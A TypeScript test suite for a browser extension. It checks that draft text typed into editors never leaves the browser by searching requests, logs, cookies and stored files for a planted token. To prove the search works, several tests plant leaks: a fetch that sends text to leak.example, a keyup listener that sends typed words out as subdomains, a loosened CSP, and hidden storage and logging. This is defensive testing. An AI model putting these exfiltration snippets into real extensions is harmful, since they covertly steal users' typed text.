// Promise 1: a draft never leaves the browser. A unique token is written into
// every editor and taken through warning, card, hold and post; then everything
// that left, was logged or was kept is searched for it. Builds with a planted
// leak have to be caught by the same search. "Keep for later" is the one exception,
// on the worker's press alone: nobody presses it here, keep.spec.ts does.
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { copy, prepend, replace } from './copies';
import { fixture, fixtures, type Fixture } from './editors';
import { draftWith, filesWith, forms, freshToken, kept, listen, sentWith, useAll } from './leaks';
import { expect, Look, test } from './look';
import { startSite, type Site } from './site';
import { isFirefox, onlyChromium } from './which';
import { freshProfile } from './world';

/** Everywhere the token was found after a worker used these editors. */
async function searched(site: Site, editors: Fixture[], extension?: string): Promise<string[]> {
  const token = freshToken();
  const profile = freshProfile();
  const log = join(profile, 'net-log.json');
  const look = await Look.start(site, { extension, profile, args: [`--log-net-log=${log}`, '--net-log-capture-mode=IncludeSensitive'] });
  const diary = await listen(look);
  const found: string[] = [];
  const check = (what: string, text: string) => forms(token).some((m) => Buffer.from(text).includes(m)) && found.push(what);
  for (const f of editors) {
    const page = await useAll(look, f, draftWith(token));
    check(`kept by ${f.name}`, await kept(page));
    await page.close();
  }
  check('kept by the extension', await kept(await look.own('pages/options.html')));
  check('cookies', JSON.stringify(await look.context.cookies()));
  check('console', diary.said.join('\n'));
  await look.stop();
  found.push(...sentWith(look, token), ...filesWith(profile, token));
  rmSync(profile, { recursive: true });
  return found;
}

/** Chromium writes down each request. */
const logged = (): string[] => (isFirefox() ? [] : ['file net-log.json']);

const few = [fixture('x'), fixture('textarea')];
const all = [...fixtures, ...['tinymce', 'shadow-open', 'gutenberg'].map(fixture)];

test('no request, name, header, log or store carries a word of a draft', async () => {
  test.setTimeout(180_000);
  const site = await startSite(); // one that has seen nothing else
  expect(await searched(site, all)).toEqual([]);
  expect(site.seen.filter((s) => s.url === '/posted').length, 'the pages did post').toBe(all.length);
  // The browser asks its maker for updates of its own; the token is looked for there too.
  const maker = isFirefox() ? /\.mozilla\.(com|net|org)$/ : /\.(google|googleapis|gvt1)\.com$/;
  const hosts = new Set(site.seen.map((s) => s.host.replace(/:\d+$/, '')).filter((h) => !maker.test(h)));
  expect([...hosts].sort(), 'nobody but the pages was talked to').toEqual(['127.0.0.1', 'bsky.app', 'forum.example', 'mastodon.social', 'x.com']);
  await site.close();
});

test('a leak planted in the background is caught: a request', async ({ site }) => {
  const bad = copy('leak-request', (dir) => {
    replace(dir, 'manifest.json', /connect-src 'self'/, 'connect-src *');
    prepend(dir, 'background.js', `chrome.runtime.onMessage.addListener((m) => {
      if (m?.t === 'check') fetch('https://leak.example/?' + encodeURIComponent(m.text), { mode: 'no-cors' }).catch(() => 0);
    });`);
  });
  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['request GET leak.example', ...logged()]));
});

test('a leak planted in the content script is caught: a host name', async ({ site }) => {
  onlyChromium('in Firefox the policy of the page binds a content script too: nothing goes out');
  const bad = copy('leak-name', (dir) => prepend(dir, 'content.js', `addEventListener('keyup', (e) => {
    const text = e.target.value ?? e.target.innerText;
    const word = text.split(' ').pop();
    if (word.length === 20) fetch('https://' + word + '.leak.example/', { mode: 'no-cors' }).catch(() => 0);
  }, true);`));
  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['name', ...logged()]));
});

test('a leak planted in the background is caught: a store', async ({ site }) => {
  const bad = copy('leak-store', (dir) => prepend(dir, 'background.js', `chrome.runtime.onMessage.addListener((m) => {
    if (m?.t !== 'check') return;
    const open = indexedDB.open('notes', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('n', { autoIncrement: true });
    open.onsuccess = () => open.result.transaction('n', 'readwrite').objectStore('n').add({ text: m.text });
  });`));
  expect(await searched(site, few, bad)).toEqual(expect.arrayContaining(['kept by the extension', ...(isFirefox() ? [] : [expect.stringContaining('file Default/')])]));
});

test('a leak planted in the background is caught: a log', async ({ site }) => {
  onlyChromium('what a background of Firefox logs, nobody tells a driver');
  const bad = copy('leak-log', (dir) => prepend(dir, 'background.js', `chrome.runtime.onMessage.addListener((m) => {
    if (m?.t === 'check') console.warn('no verdict for', m.text);
  });`));
  expect(await searched(site, few, bad)).toContain('console');
});
